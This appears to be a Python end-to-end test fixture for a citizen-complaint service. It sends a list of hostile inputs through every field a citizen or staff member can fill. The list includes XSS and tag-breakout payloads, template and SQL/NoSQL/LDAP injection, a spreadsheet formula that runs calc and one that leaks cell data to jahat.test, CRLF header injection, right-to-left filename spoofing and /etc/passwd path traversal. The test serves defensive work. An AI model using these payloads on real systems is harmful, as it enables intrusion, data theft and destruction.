"""What a hostile citizen may write wherever a citizen can write anything, and an office to which all of it was sent."""

import unicodedata
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from http import HTTPStatus
from typing import Any, Final

from tests.browser.files import pdf
from tests.browser.place import Place
from tests.end_to_end.scenes import numbers_in
from tests.end_to_end.world import ADMIN, KASI, World

MARK: Final = "Zq9"
"""Stands in every text, so that each is found wherever it went."""

PLAIN: Final = "biasa"
TURNED: Final = "\N{RIGHT-TO-LEFT OVERRIDE}"
ACTS: Final = "globalThis.acted=1;document.title='acted'"

_TEXTS: Final[Mapping[str, str]] = {
    PLAIN: "Kata yang biasa saja.",
    "script": f'<script>{ACTS}</script> <img src=x onerror="{ACTS}"> <svg/onload={ACTS}>',
    "out of an attribute": f"\"><script>{ACTS}</script><a title='>' autofocus onfocus={ACTS} x='",
    "end of a textarea": f"</textarea></title></style></script><script>{ACTS}</script>",
    "comment": f"<!--><script>{ACTS}</script>--> <![CDATA[ ]]> <?php phpinfo(); ?>",
    "tags left open": "<b><table><td><select><bdi><plaintext><div style='position:fixed;inset:0'>",
    "tags that close ours": "</bdi></div></main></body></html><h1>Judul palsu</h1>",
    "form of another": "<form action=https://jahat.test><input name=csrf_token><button>Masuk</button></form>",
    "link that acts": f"javascript:{ACTS} data:text/html,<script>{ACTS}</script> vbscript:msgbox(1)",
    "template": "{{7*7}} {{ self.__init__.__globals__ }} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %> %(x)s {0} {number}",
    "entity": "&lt;script&gt; &amp; &#x202e; &nbsp; &quot;",
    "formula": "=cmd|' /C calc'!A0 =HYPERLINK(\"https://jahat.test?x=\"&A1;\"klik\") +1 -1 @SUM(1)\t=1+1",
    "formatting": "*tebal* _miring_ ~coret~ ```kode``` > kutipan\n- satu\n1. dua [nama](https://jahat.test)",
    "letters turned": f"{TURNED}gpj.exe{TURNED} 3 menit lagi",
    "embeddings left open": "\u2069\u2069\u202c\u202c \u202b\u202a\u2067\u2066\u2068 abc \u2067 12 (Kepala Dinas)",
    "Arabic": "مرحبا بالعالم 123 (abc) \N{RIGHT-TO-LEFT MARK}!",
    "nothing to be seen": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u115f\u3164",
    "marks upon marks": "a" + "\u0301\u0338\u20dd" * 200 + "b",
    "controls": "a\0b " + "".join(map(chr, range(1, 32))) + "\x7f\x85\x9f\u2028\u2029\x1b[31mmerah\x1b[0m \ufffe\uffff",
    "lines": "satu\r\n\r\n\r\n" + "\n" * 40 + "dua\rtiga",
    "heads of an answer": "x\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "faces": "👩‍👩‍👧‍👦" * 500 + "🙏🏽" * 298,
    "a word": "w" * 40_000,
    "widest letters": "﷽𒐫⸻" * 60,
    "a path": "../../etc/passwd%00.pdf C:\\Windows\\system32 ' OR 1=1; DROP TABLE aduan;-- {\"$gt\": \"\"} *)(uid=*))",
}  # fmt: skip
TEXTS: Final[Mapping[str, str]] = {name: f"{MARK} {text} {MARK}" for name, text in _TEXTS.items()}

SET_FORMAT: Final = "Layanan: KTP\nNama: Siti Aminah\nNIK: 3402014107900001\nAduan: KTP saya belum jadi. {}"
FITS_A_FIELD: Final = 1000
_FITS_A_NAME: Final = 200


def typed(text: str) -> str:
    """What a member of staff could paste into a field, as it is kept: without controls."""
    kept = (
        letter for letter in text if letter in "\n\t" or (unicodedata.category(letter) != "Cc" and letter != TURNED)
    )
    return "".join(kept)[:FITS_A_FIELD]


@dataclass(frozen=True)
class Hostile:
    """A place to which everything was sent: for each text its complaint, and its draft."""

    place: Place
    numbers: Mapping[str, str]
    drafts: Mapping[str, str]

    @property
    def world(self) -> World:
        """What stands behind the pages."""
        return self.place.world


def a_hostile_morning(place: Place) -> Hostile:
    """Every text in every place that a citizen can write to, and in staff's own fields."""
    numbers = {name: _complaint(place.world, text, place_) for place_, (name, text) in enumerate(TEXTS.items(), 10)}
    drafts: dict[str, str] = {}
    for place_, (name, text) in enumerate(TEXTS.items(), 10):
        drafts[name] = _draft(place.world, text, place_, known=drafts.values())
    place.world.advance(minutes=31)
    return Hostile(place, numbers, drafts)


def _complaint(world: World, text: str, place: int) -> str:
    citizen = world.citizen(f"+62812999000{place}", name=text[:_FITS_A_NAME])
    sends: tuple[Callable[[], object], ...] = (
        lambda: citizen.write(SET_FORMAT.format(text[:FITS_A_FIELD])),
        lambda: citizen.write(text),
        lambda: citizen.send_location(-7.8, 110.3, text[:FITS_A_FIELD], text[:FITS_A_FIELD]),
        lambda: citizen.send_contact(text[:_FITS_A_NAME], "+6281200000009"),
        lambda: citizen.send_document(pdf("KARTU"), text[:_FITS_A_NAME], caption=text[:FITS_A_FIELD]),
    )
    for send in sends:
        assert send() == HTTPStatus.OK
    world.settle()
    number = next(found for message in citizen.inbox for found in numbers_in(message.text))
    acts: tuple[tuple[str, str, dict[str, Any]], ...] = (
        ("forward", ADMIN, {"note": typed(text)}),
        ("ask_complainant", KASI, {"question": typed(text)}),
        ("respond", KASI, {"note": typed(text), "answer": typed(text)}),
    )
    for act, email, fields in acts:
        assert world.act(number, act, email, **fields).status_code == HTTPStatus.OK
    return number


def _draft(world: World, text: str, place: int, known: Iterable[str]) -> str:
    assert world.citizen(f"+62812999001{place}", name="Siti").write(text) == HTTPStatus.OK
    (new,) = {str(row["id"]) for row in world.complaints("?status=draft")} - {*known}
    return new
